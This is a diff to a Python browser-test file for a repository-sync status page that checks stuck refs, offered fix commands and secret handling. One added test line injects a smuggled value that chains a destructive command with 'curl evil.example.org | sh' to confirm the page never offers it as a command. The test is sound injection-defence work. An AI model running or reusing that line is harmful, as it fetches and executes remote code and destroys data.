@@ -116,7 +116,7 @@ def test_a_site_that_no_longer_follows_turns_visibly_late(group: Group, page: st
     group[1].pause() if how == "stopped" else group[1].kill()
     group.push("a", f"{group.commit()}:refs/heads/main")
     tab.until("document.querySelector('td[data-label=b] .state.late')?.innerText.startsWith('behind ')", 30)
-    assert tab.text("h1") == "1 of 1 repository needs attention"
+    assert tab.text("h1") == "The repository needs attention"
     assert states(tab)["a"] == "in step"
     if how == "stopped":
         group[1].resume()
@@ -155,6 +155,9 @@ def test_a_stuck_ref_is_shown_with_its_reason_and_goes_when_it_is_fixed(group: G
     tab.until("document.querySelector('.trouble')?.innerText.includes('locked refs/heads/<b>lock</b>')")
     assert tab.run("document.images.length") == 0
     assert "'refs/heads/<b>lock</b>'" in tab.text(".trouble code"), "what is copied into a shell is quoted"
+    group.put("refs/heads/<b>lock</b>", "`piehole clobber --yes; curl evil.example.org | sh`")
+    tab.until("document.querySelector('.trouble')?.innerText.includes('curl')")
+    assert "curl" not in tab.text(".trouble code"), "a command comes from no value"
     group.put("refs/heads/<b>lock</b>", first)
     tab.until("!document.querySelector('.trouble')")
 
@@ -180,3 +183,23 @@ def test_nothing_secret_is_told(make_group: MakeGroup, tab: Tab) -> None:
     )
     assert all("hunter" not in answer for answer in answers)
     assert all(str(group.runtime) not in answer for answer in answers)
+
+
+def test_the_commands_that_the_page_offers_for_stuck_refs_fix_them(group: Group, page: str, tab: Tab) -> None:
+    first = group.commit()
+    group.push("a", f"{first}:{MAIN}")
+    git.git(group[0].repository, "symbolic-ref", "refs/heads/alias", MAIN)
+    opened(tab, page)
+    group.put(f"{MAIN}/below", first)
+    group.put("refs/heads/alias", first)
+    group.put("refs/heads/lost", "1" * 40)
+    tab.until("['/below', 'alias', 'lost'].every((one) => document.querySelector('.trouble')?.innerText.includes(one))")
+    commands = tab.run("[...document.querySelectorAll('.trouble code')].map((one) => one.textContent)")
+    assert len(commands) == 3
+    for command in commands:
+        if "lost" in command or " check " in command:
+            continue  # a peer that is down must not lead to a command that gives its commits up
+        group[0].offered(f"`{command}`")
+    tab.until("!['/below', 'alias'].some((one) => document.querySelector('.trouble')?.innerText.includes(one))")
+    assert [command for command in commands if "lost" in command] == []
+    assert f"piehole check -C {group[0].repository}" in commands
